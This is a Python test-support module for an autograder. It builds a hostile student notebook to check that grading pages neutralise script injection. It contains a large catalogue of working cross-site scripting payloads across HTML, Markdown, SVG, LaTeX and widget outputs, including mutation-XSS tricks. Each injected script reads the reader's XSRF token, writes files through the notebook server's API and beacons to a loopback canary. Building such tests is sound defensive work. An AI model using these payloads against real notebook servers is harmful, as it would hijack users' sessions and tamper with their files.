"""A notebook that attacks its readers, in all the ways in which a page can attack.

Each attack has a name. If it succeeds, it prints the name on the browser's console, requests it
from a canary server on loopback, and writes a file of that name through the server's interface with
the reader's session.
"""

import base64
import html
import json
from urllib.parse import quote

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.engine.stages import Execution, RunVerdict
from tests.support.tiny_course import CHAPTER

MARK = "# attack "
FILE = "stolen_"
RAN = "ran:"
# For an attribute without quotes, which can't contain spaces.
BARE = f"console.log('{RAN}bare')"


def script(name, canary):
    """Return the script that an attack runs if it can run scripts."""
    model = json.dumps({"type": "file", "format": "text", "content": name})
    return (
        f"console.log('{RAN}{name}');fetch('{canary}/{name}');"
        f"fetch('/api/contents/{FILE}{name}.txt',{{method:'PUT',body:'{quote(model)}'"
        ".replace(/%../g,unescape),headers:{'X-XSRFToken':"
        "(document.cookie.match(/_xsrf=([^;]*)/)||['',''])[1]}})"
    )


def html_attacks(canary):
    """Return HTML for outputs, by the attack's name."""

    def js(name):
        return html.escape(script(name, canary))

    def tag(name):
        return f"<script>{script(name, canary)}</script>"

    def uri(name):
        return f"data:text/html;base64,{_base64(tag(name))}"

    return {
        "script": tag("script"),
        "onerror": f'<img src="x:" onerror="{js("onerror")}">',
        "svg_onload": f'<svg onload="{js("svg_onload")}"></svg>',
        "srcdoc": f'<iframe srcdoc="{html.escape(tag("srcdoc"))}"></iframe>',
        "frame_js": f'<iframe src="javascript:{js("frame_js")}"></iframe>',
        "frame_data": f'<iframe src="{uri("frame_data")}"></iframe>',
        "link_js": f'<a href="javascript:{js("link_js")}">click</a>',
        "link_entity": f'<a href="java&#x09;script&colon;{js("link_entity")}">click</a>',
        "math_link": '<math><mtext><a xlink:href="javascript:'
        f'{js("math_link")}" href="javascript:{js("math_link")}">click</a></mtext></math>',
        "svg_link": '<svg><a xlink:href="javascript:'
        f'{js("svg_link")}"><text y="20">click</text></a></svg>',
        "object": f'<object data="{uri("object")}"></object>',
        "embed": f'<embed src="{uri("embed")}">',
        "autofocus": f'<input autofocus onfocus="{js("autofocus")}">',
        "toggle": f'<details open ontoggle="{js("toggle")}"><p>x</p></details>',
        "media": f'<video><source onerror="{js("media")}"></video>',
        "animate": f'<svg><animate onbegin="{js("animate")}" attributeName="x" dur="1s"></svg>',
        "marquee": f'<marquee onstart="{js("marquee")}">x</marquee>',
        "unknown_tag": f'<x tabindex="1" autofocus onfocus="{js("unknown_tag")}">x</x>',
        "module": f'<script type="module">{script("module", canary)}</script>',
        "mathjax_config": '<script type="text/x-mathjax-config">'
        f"{script('mathjax_config', canary)}</script>",
        "shadow": f'<div><template shadowrootmode="open">{tag("shadow")}</template></div>',
        "mutation_math": "<math><mtext><table><mglyph><style><!--</style><img title="
        f"\"--&gt;&lt;img src=x: onerror='{js('mutation_math').replace('&', '&amp;')}'&gt;\">",
        "mutation_svg": f'<svg></p><style><a id="</style><img src=x: onerror={BARE}>">',
        "mutation_noscript": '<noscript><p title="</noscript><img src=x: '
        f'onerror={BARE}>"></noscript>',
        "tooltip": '<span data-toggle="tooltip" data-html="true" data-trigger="hover" title="'
        f'{html.escape(tag("tooltip"))}">hover</span>',
        "button": f'<button onclick="{js("button")}">Full credit</button>',
        "form": f'<form action="{canary}/form" target="_blank"><button>Save</button></form>',
        "form_js": f'<form action="javascript:{js("form_js")}"><button>Save</button></form>',
        "css_sheet": f"<style>p {{background: url({canary}/css_sheet)}}</style><p>x</p>",
        "css_import": f"<style>@import url({canary}/css_import);</style>",
        "css_inline": f'<p style="background-image: url({canary}/css_inline)">x</p>',
        "css_escape": f'<p style="background-image: u\\72l({canary}/css_escape)">x</p>',
        "css_link": f'<link rel="stylesheet" href="{canary}/css_link">',
        "picture": f'<img src="{canary}/picture">',
        "picture_set": f'<img srcset="{canary}/picture_set 1x">',
        "svg_picture": f'<svg><image href="{canary}/svg_picture" width="9" height="9"/></svg>',
        "prefetch": f'<link rel="preload" as="image" href="{canary}/prefetch">',
        "own_server": '<img src="/formgrader?path=/tmp">',
        "pandas": f'<table class="dataframe"><tr><td onclick="{js("pandas")}">1</td></tr></table>',
    }


def leading_away(canary):
    """Return HTML that takes the reader to another page, which ends every other attack."""
    return {
        "refresh": f'<meta http-equiv="refresh" content="0; url={canary}/refresh">',
        "base": f'<base href="{canary}/"><img src="base">',
    }


def markdown_attacks(canary):
    """Return Markdown for cells, outputs and answers, by the attack's name."""

    def js(name):
        return html.escape(script(name, canary))

    def uri(name):
        return "javascript:" + quote(script(name, canary), safe="")

    def tag(name):
        return f"<script>{script(name, canary)}</script>"

    return {
        "md_html": f'Text <img src="x:" onerror="{js("md_html")}">',
        "md_block": f"<div>\n{tag('md_block')}\n</div>",
        "md_comment": f"<!-- --!><img src=x: onerror={BARE}> -->",
        "md_frame": f'<iframe srcdoc="{html.escape(tag("md_frame"))}"></iframe>',
        "md_link": f"[click]({uri('md_link')})",
        "md_link_angled": f"[click](<{uri('md_link_angled')}>)",
        "md_link_entity": f"[click]({uri('md_link_entity').replace('j', '&#106;', 1)})",
        "md_reference": f"[click][there]\n\n[there]: {uri('md_reference')}",
        "md_autolink": f"<{uri('md_autolink')}>",
        "md_data": f"[click](data:text/html;base64,{_base64(tag('md_data'))})",
        "md_picture": f"![x]({canary}/md_picture)",
        "md_mermaid": f"```mermaid\ngraph TD\n</pre>{tag('md_mermaid')}\n```",
        "md_mermaid_tilde": f"~~~mermaid\n<img src=x: onerror={BARE}>\n~~~",
        "md_math": f"$\\href{{{uri('md_math')}}}{{click}} </span>{tag('md_math')}$",
        "md_math_block": f"$$x<img src=x: onerror={BARE}>$$",
        "md_code": f"`` ` `` <img src=x: onerror={BARE}> ` x `",
        "md_heading": f"# why_add\n\n## <img src=x: onerror={BARE}>",
        "md_title": f'[x](y "\\"><img src=x: onerror={BARE}>")',
        "md_table": f"| a |\n|---|\n| {tag('md_table')} |",
        "md_missing": "![x](attachment:missing.png)",
        "md_own_server": "![x](/formgrader?path=/tmp)",
    }


def other_outputs(canary):
    """Return outputs of other kinds, as (data, metadata), by the attack's name."""

    def run(name):
        return script(name, canary)

    def tag(name):
        return f"<script>{run(name)}</script>"

    def drawing(name):
        return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{html.escape(run(name))}"></svg>'

    widgets = "application/vnd.jupyter.widget-view+json"
    return {
        "javascript": ({"application/javascript": run("javascript")}, {}),
        "svg": ({"image/svg+xml": drawing("svg")}, {}),
        "latex": ({"text/latex": f"$x$ {tag('latex')}"}, {}),
        "isolated": ({"text/html": tag("isolated")}, {"text/html": {"isolated": True}}),
        "widget": ({widgets: {"model_id": f"</script>{tag('widget')}"}}, {}),
        "mermaid": ({"text/vnd.mermaid": f"graph TD\n{tag('mermaid')}"}, {}),
        "pdf": ({"application/pdf": f'"><img src=x: onerror={BARE}>'}, {}),
        "vega": ({"application/vnd.vega.v5+json": {"$schema": "x", "data": f"{canary}/vega"}}, {}),
        "png": ({"image/png": f'x" onerror="{html.escape(run("png"))}'}, {}),
        "png_file": (
            {"image/png": "iVBORw0KGgo="},
            {"filenames": {"image/png": f"{canary}/png_file"}},
        ),
        "png_size": (
            {"image/png": "iVBORw0KGgo="},
            {"image/png": {"width": f"1 onerror={BARE}"}},
        ),
        "plain": ({"text/plain": tag("plain")}, {}),
    }


def hostile_cells(canary, everything=True):
    """Return the hostile cells for a submission; without ``everything``, none that leads away.

    The outputs of the code cells come from :func:`show_attacks`, which runs in another process.
    """
    cells = [
        new_code_cell(f"{MARK}{name} {canary}")
        for name in [*html_attacks(canary), *other_outputs(canary), "error", "stream"]
    ]
    if everything:
        cells += [new_code_cell(f"{MARK}{name} {canary}") for name in leading_away(canary)]
    attacks = markdown_attacks(canary)
    if not everything:
        # nbconvert refuses the whole page if a single picture is missing.
        del attacks["md_missing"]
    cells += [new_code_cell(f"{MARK}{name} {canary}") for name in attacks]
    cells += [new_markdown_cell(text) for text in attacks.values()]
    if everything:
        drawing = other_outputs(canary)["svg"][0]["image/svg+xml"]
        cells.append(new_markdown_cell("![x](attachment:a.svg)"))
        cells[-1].attachments = {"a.svg": {"image/svg+xml": _base64(drawing)}}
    cells.append(new_raw_cell(html_attacks(canary)["onerror"]))
    cells.append(new_code_cell(f"'''</pre></div>{html_attacks(canary)['script']}'''"))
    return cells


def written_answer(canary):
    """Return the text of an answer that a person must open."""
    attacks = markdown_attacks(canary)
    texts = [attacks[name] for name in attacks if name != "md_missing"]
    return "\n\n".join(["Because of the sum.", *texts])


def show_attacks(task):
    """Execute a submission so that the hostile cells have their outputs."""
    notebook = nbformat.reads(task.notebook.decode(), as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.execution_count = 1
            if cell.source.startswith(MARK):
                cell.outputs = [_shown(*cell.source.removeprefix(MARK).split())]
    content = nbformat.writes(notebook).encode()
    return Execution(task.student, task.chapter, content, RunVerdict.OK, "", {}, 0)


def _shown(name, canary):
    if name == "stream":
        return new_output("stream", name="stdout", text=f"\x1b[1m{html_attacks(canary)['script']}")
    if name == "error":
        text = html_attacks(canary)["onerror"]
        return new_output("error", ename=text, evalue=text, traceback=[f"\x1b[31m{text}"])
    if (markdown := markdown_attacks(canary).get(name)) is not None:
        return new_output("display_data", data={"text/markdown": markdown})
    pages = html_attacks(canary) | leading_away(canary)
    if name in pages:
        return new_output("display_data", data={"text/html": pages[name]})
    data, metadata = other_outputs(canary)[name]
    return new_output("display_data", data=data, metadata=metadata)


def hand_in(folder, released, student, canary, everything=True):
    """Put a student's hostile notebook into ``submitted/``, with pages next to it."""
    notebook = nbformat.read(released / f"{CHAPTER}.ipynb", 4)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name == "add_up":
            cell.source = "def add_up(left, right):\n    return left + right"
        elif name == "why_add":
            cell.source = written_answer(canary)
    notebook.cells += hostile_cells(canary, everything)
    place = folder.root / "submitted" / student / CHAPTER
    place.mkdir(parents=True)
    nbformat.write(notebook, place / f"{CHAPTER}.ipynb")
    page = html_attacks(canary)["script"]
    for name in ("page.html", "drawing.svg", "page.xhtml", "data.csv"):
        (place / name).write_text(page)


def _base64(text):
    return base64.b64encode(text.encode()).decode()
